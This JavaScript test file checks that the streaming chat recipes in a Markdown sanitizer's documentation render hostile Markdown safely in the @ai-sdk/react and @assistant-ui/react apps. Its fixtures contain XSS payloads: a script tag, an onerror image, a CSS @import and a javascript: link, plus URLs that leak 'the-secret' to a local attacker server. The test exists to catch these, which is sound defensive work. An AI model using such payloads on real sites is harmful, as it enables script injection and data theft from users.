// The chats of docs/streaming.md: each recipe in an application of its SDK's, as npm has it, whose server streams hostile Markdown
// in the SDK's own protocol.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { pathToFileURL } from "node:url";
import { build } from "esbuild";
import { sanitizeMarkdown } from "../../pkg/index.js";
import { parsed, textOf } from "../package/pages.mjs";
import { open } from "../package/support.mjs";
import { listenFor } from "../support/servers.mjs";
import { once, toolchain } from "./toolchain.mjs";

const { blocks } = parsed(textOf("docs/streaming.md"));
const recipe = (name) => blocks.find(({ language, code }) => language === "jsx" && code.includes(`"${name}"`)).code;

const ROOT = `
import { createRoot } from "react-dom/client";
createRoot(document.querySelector("#output")).render(<App />);
`;

/** What an application adds to each recipe. */
const APPLICATIONS = {
  "@ai-sdk/react": `
import { useEffect } from "react";
const App = () => {
  useEffect(() => document.querySelector("button").click(), []);
  return <Chat />;
};`,
  "@assistant-ui/react": `
import { useEffect } from "react";
import { AssistantRuntimeProvider, ThreadPrimitive } from "@assistant-ui/react";
import { useChatRuntime } from "@assistant-ui/ai-sdk";
const components = { AssistantMessage, UserMessage: () => null };
const App = () => {
  const runtime = useChatRuntime();
  useEffect(() => void runtime.thread.append("Go on"), [runtime]);
  return (
    <AssistantRuntimeProvider runtime={runtime}>
      <ThreadPrimitive.Root>
        <ThreadPrimitive.Messages components={components} />
      </ThreadPrimitive.Root>
    </AssistantRuntimeProvider>
  );
};`,
};

const answer = (evil) => [
  "# Answer\n\nSome **bold** words <script>window.ran = true</script> and ",
  `![x](${evil}/markdown?q=the-secret).\n\n- <img src="${evil}/markup?q=the-secret" onerror="window.ran = true">\n`,
  `- two\n\n<style>@import "${evil}/sheet"</style>\n\n[a link](javascript:window.ran=true) and ${evil}/bare\n\n`,
  "The end, 😀.",
];

const directory = once(() => toolchain("chats", {}));

/** Streams the parts a few letters at a time; the last of them when it is told to go on. */
async function streams(t, script, parts) {
  const file = pathToFileURL(join(directory(), "node_modules/ai/dist/index.js")).href;
  const { createUIMessageStream, pipeUIMessageStreamToResponse } = await import(file);
  let goOn;
  const isSeen = new Promise((resolve) => (goOn = resolve));
  const { origin } = await listenFor(t, (request, response) => {
    if (request.url === "/api/chat" && request.method === "POST") {
      const stream = createUIMessageStream({
        async execute({ writer }) {
          writer.write({ type: "text-start", id: "0" });
          for (const part of parts) {
            if (part === parts.at(-1)) await isSeen;
            for (const delta of part.match(/.{1,4}/gsu)) {
              writer.write({ type: "text-delta", id: "0", delta });
              await new Promise((resolve) => setTimeout(resolve, 2));
            }
          }
          writer.write({ type: "text-end", id: "0" });
        },
      });
      pipeUIMessageStreamToResponse({ response, stream });
    } else if (request.url === "/app.js") {
      response.setHeader("Content-Type", "text/javascript; charset=utf-8").end(script);
    } else {
      response.setHeader("Content-Type", "text/html; charset=utf-8");
      response.end(
        `<!doctype html><title>App</title><div id="output"></div><script type="module" src="/app.js"></script>`,
      );
    }
  });
  return { origin, goOn };
}

for (const [name, application] of Object.entries(APPLICATIONS)) {
  test(`docs/streaming.md, ${name}: hostile Markdown is shown while it arrives, and the attacker gets nothing`, async (t) => {
    const hits = [];
    const evil = await listenFor(t, (request, response) => {
      hits.push(request.url);
      response.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
    });
    const { outputFiles } = await build({
      stdin: { contents: `${recipe(name)}\n${application}\n${ROOT}`, resolveDir: directory(), loader: "jsx" },
      ...{ bundle: true, format: "esm", write: false, logLevel: "silent", jsx: "automatic", target: "es2022" },
      define: { "process.env.NODE_ENV": '"production"' },
    });
    const parts = answer(evil.origin);
    const { origin, goOn } = await streams(t, outputFiles[0].text, parts);
    const { page, errors } = await open(t, origin);
    const ofAnswer = "#output [aria-busy=true]:has(h1)";
    await page.waitForSelector(`${ofAnswer} strong`, { timeout: 60_000 });
    // All but the last part, which has not been sent.
    await page.waitForFunction((of) => document.querySelector(of)?.textContent.includes("a link"), ofAnswer);
    await page.evaluate((of) => {
      window.shown = document.querySelector(of);
      window.heading = window.shown.querySelector("h1");
    }, ofAnswer);
    goOn();
    await page.waitForFunction(() => !window.shown.hasAttribute("aria-busy"), null, { timeout: 60_000 });
    const seen = await page.evaluate(
      (whole) => {
        const wanted = document.createElement("div");
        wanted.innerHTML = whole;
        const { shown, heading, ran } = window;
        const same = shown.isConnected && shown.childNodes.length === wanted.childNodes.length;
        return {
          same: same && [...shown.childNodes].every((node, at) => node.isEqualNode(wanted.childNodes[at])),
          stays: heading === shown.querySelector("h1"),
          ran,
          html: shown.innerHTML,
        };
      },
      sanitizeMarkdown(parts.join("")),
    );
    assert.deepEqual([seen.same, seen.stays, seen.ran, errors], [true, true, undefined, []], seen.html);
    await page.waitForTimeout(300);
    await fetch(`${evil.origin}/counted`);
    assert.deepEqual(hits, ["/counted"]);
  });
}

test("the chats are pinned, and the lockfile names no host", () => {
  const read = (file) => readFileSync(new URL(`chats/${file}`, import.meta.url), "utf8");
  const { devDependencies } = JSON.parse(read("package.json"));
  for (const version of Object.values(devDependencies)) assert.match(version, /^\d+\.\d+\.\d+$/);
  assert.doesNotMatch(read("package-lock.json"), /"resolved"/);
});
